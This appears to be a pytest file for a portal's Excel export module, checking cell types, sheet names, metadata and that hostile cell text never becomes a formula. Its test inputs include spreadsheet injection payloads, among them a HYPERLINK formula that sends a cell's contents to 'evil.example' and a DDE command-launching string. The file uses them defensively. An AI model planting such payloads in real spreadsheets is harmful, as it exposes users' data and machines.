"""Workbooks, opened again with another library."""

from __future__ import annotations

import datetime
import zipfile
import zoneinfo
from io import BytesIO

import openpyxl
import pytest

from cicc_portal.documents.xlsx import Column, Sheet, workbook
from cicc_portal.languages import Text

DATED = datetime.datetime(2025, 5, 14, 9, 30, tzinfo=datetime.UTC)


def made(*rows, headings=("Name",), name="People", **options):
    sheet = Sheet(name=name, columns=[Column(heading=heading) for heading in headings], rows=rows)
    return openpyxl.load_workbook(BytesIO(workbook([sheet], title="List", dated=DATED, **options)))


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A2,"Open")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_no_cell_becomes_a_formula(hostile):
    cell = made([hostile]).active["A2"]
    assert (cell.data_type, cell.value.replace("_x000D_", "\r")) == ("s", hostile)
    assert cell.quotePrefix


def test_a_heading_is_no_formula_either():
    cell = made(headings=("=1+1",)).active["A1"]
    assert (cell.data_type, cell.value) == ("s", "=1+1")


def test_an_ordinary_text_has_no_apostrophe():
    assert not made(["Zoë"]).active["A2"].quotePrefix


def test_an_address_is_no_link():
    book = made(["https://example.org/", "mailto:a@example.org"], headings=("a", "b"))
    assert [cell.hyperlink for cell in book.active[2]] == [None, None]


def test_cells_keep_their_types():
    zone = zoneinfo.ZoneInfo("America/St_Lucia")
    row = [
        "Curaçao", Text({"en": "Opening", "fr": "Ouverture"}), 7, 1.5, True, None, "",
        datetime.date(2025, 5, 14), datetime.datetime(2025, 5, 14, 9, 30, tzinfo=zone), datetime.time(9, 30),
    ]  # fmt: skip
    book = made(row, headings=[str(number) for number in range(10)])
    *cells, day, moment, clock = [cell.value for cell in book.active[2]]
    assert cells == ["Curaçao", "Opening", 7, 1.5, True, None, None]
    assert (day.isoformat(), moment.isoformat(), clock) == (
        "2025-05-14T00:00:00", "2025-05-14T09:30:00", datetime.time(9, 30),
    )  # fmt: skip


def test_a_number_written_as_text_stays_text():
    assert made(["00758"]).active["A2"].value == "00758"


def test_control_characters_do_not_break_the_file():
    assert made(["a\x00b\x0bc"]).active["A2"].value is not None


def test_headings_stay_in_sight():
    page = made(["x"], headings=("Name", "State")).active
    assert ([cell.value for cell in page[1]], page.freeze_panes, page.auto_filter.ref) == (
        ["Name", "State"],
        "A2",
        "A1:B2",
    )


def test_sheet_names_are_made_fit():
    sheets = [Sheet(name=name, columns=[], rows=[]) for name in ("Day 1/2: [a]", "x" * 40, "X" * 40, "", "'")]
    book = openpyxl.load_workbook(BytesIO(workbook(sheets, title="x", dated=DATED)))
    assert book.sheetnames == ["Day 1 2   a", "x" * 31, "X" * 27 + " (2)", "Sheet", "Sheet (2)"]


def test_rows_are_taken_one_by_one():
    """Twenty thousand rows from a generator: nothing asks for them all at once."""
    sheet = Sheet(name="x", columns=[Column(heading="n")], rows=([number] for number in range(20_000)))
    book = openpyxl.load_workbook(BytesIO(workbook([sheet], title="x", dated=DATED)), read_only=True)
    assert book.active.max_row == 20_001


def test_metadata():
    properties = made(["x"], author="CARICOM IMPACS").properties
    assert (properties.title, properties.creator, properties.created) == (
        "List", "CARICOM IMPACS", DATED.replace(tzinfo=None),
    )  # fmt: skip


def test_the_same_data_gives_the_same_bytes():
    sheet = Sheet(name="x", columns=[Column(heading="n")], rows=[["a"], ["b"]])
    first, second = (workbook([sheet], title="x", dated=DATED) for _time in range(2))
    assert first == second
    assert zipfile.ZipFile(BytesIO(first)).testzip() is None
